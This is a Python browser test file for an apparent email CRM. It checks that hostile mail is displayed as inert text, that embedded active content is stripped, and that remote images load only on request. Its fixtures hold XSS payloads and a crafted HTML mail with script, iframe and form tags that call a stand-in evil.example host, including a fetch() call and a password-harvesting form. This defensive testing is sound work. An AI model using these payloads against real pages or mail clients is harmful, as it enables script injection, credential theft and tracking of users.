"""A mail is data: what it holds may be looked at, and does nothing."""

from __future__ import annotations

from collections.abc import Callable
from datetime import UTC, datetime

from sqlalchemy import select

from inboxcrm.model import Contact, Customer, Folder, FolderRole, Location
from inboxcrm.model.database import writing
from tests.browser.conftest import Pages, Watched
from tests.browser.seed import entry, message

NASTY = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'><svg onload=alert(3)>{{ 7*7 }} javascript:alert(4)"
HTML = f"""\
From: "{NASTY.replace('"', "")}" <purchasing@valo.example>
To: li.wei@brightlamps.example
Subject: hello
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><meta http-equiv=refresh content="0;url=https://evil.example/refresh"><base href="https://evil.example/">
<link rel=stylesheet href="https://evil.example/a.css"><style>@import url(https://evil.example/b.css);
body {{ background: url(https://evil.example/c.png) }}</style></head>
<body onload="alert(5)" background="https://evil.example/d.png">
<p id=visible>The visible words.</p>
<script>alert(6); fetch("https://evil.example/e")</script>
<img src="https://evil.example/pixel.png" width=20 height=20><img src=x onerror="alert(7)">
<iframe src="https://evil.example/f"></iframe><object data="https://evil.example/g"></object>
<form action="https://evil.example/h"><input name=password><button>go</button></form>
<a href="javascript:alert(8)">click</a> <svg><script>alert(9)</script></svg>
<div style="background:url(https://evil.example/i.png)">styled</div>
</body></html>
"""


def hostile(pages: Pages) -> tuple[int, int]:
    """A hostile mail in a log and on the server: (customer, message)."""
    with writing(pages.engine) as session:
        customer = session.scalars(select(Customer).where(Customer.name == "Valo Oy")).one()
        contact = session.scalars(select(Contact).where(Contact.customer_id == customer.id)).first()
        mail = message(
            session, "nasty@valo.example", datetime.now(UTC), NASTY, f"{NASTY}\n\n{NASTY}",
            sender=(NASTY, "purchasing@valo.example"), quoted_text=NASTY, signature=NASTY,
            attachments=[{"name": NASTY, "type": NASTY, "size": 12}],
        )  # fmt: skip
        entry(session, customer, contact, mail, feedback=NASTY)
        customer.local_name = NASTY
        folder = session.scalars(select(Folder).where(Folder.role == FolderRole.INBOX)).first()
        assert folder is not None
        session.add(Location(message_id=mail.id, folder_id=folder.id, uidvalidity=folder.uidvalidity, uid=77_001))
        pages.originals[77_001] = HTML.encode()
        return customer.id, mail.id


def test_hostile_text_is_shown_as_text(visit: Callable[..., Watched], pages: Pages) -> None:
    window = visit()
    customer, message_id = hostile(pages)
    for path in (f"/customers/{customer}", "/", "/customers?sort=last_entry", f"/messages/{message_id}"):
        window.open(path)
        assert "<script>alert(1)</script>" in window.page.locator("main").inner_text()
    assert window.dialogs == []
    assert window.elsewhere == []


def test_a_mail_as_it_came_can_do_nothing_and_loads_nothing(visit: Callable[..., Watched], pages: Pages) -> None:
    window = visit()
    _customer, message_id = hostile(pages)
    window.open(f"/messages/{message_id}")
    frame = window.page.frame_locator("iframe")
    frame.locator("text=The visible words.").wait_for()
    window.page.wait_for_load_state("networkidle")
    assert frame.locator("script, iframe, form, object, svg").count() == 0
    assert window.dialogs == []
    assert window.elsewhere == []


def test_images_come_only_when_asked_for_and_by_https(visit: Callable[..., Watched], pages: Pages) -> None:
    window = visit()
    window.page.context.route("https://evil.example/**", lambda route: route.abort())
    _customer, message_id = hostile(pages)
    window.open(f"/messages/{message_id}")
    window.page.get_by_role("link", name="Load images").click()
    window.page.frame_locator("iframe").locator("text=The visible words.").wait_for()
    window.page.wait_for_load_state("networkidle")
    assert set(window.elsewhere) == {"https://evil.example/pixel.png"}
    assert window.dialogs == []


def test_a_mail_that_is_gone_from_the_server_is_said_so(visit: Callable[..., Watched], pages: Pages) -> None:
    window = visit()
    _customer, message_id = hostile(pages)
    pages.originals.clear()
    window.open(f"/messages/{message_id}")
    window.page.frame_locator("iframe").locator("text=no longer on the server").wait_for()
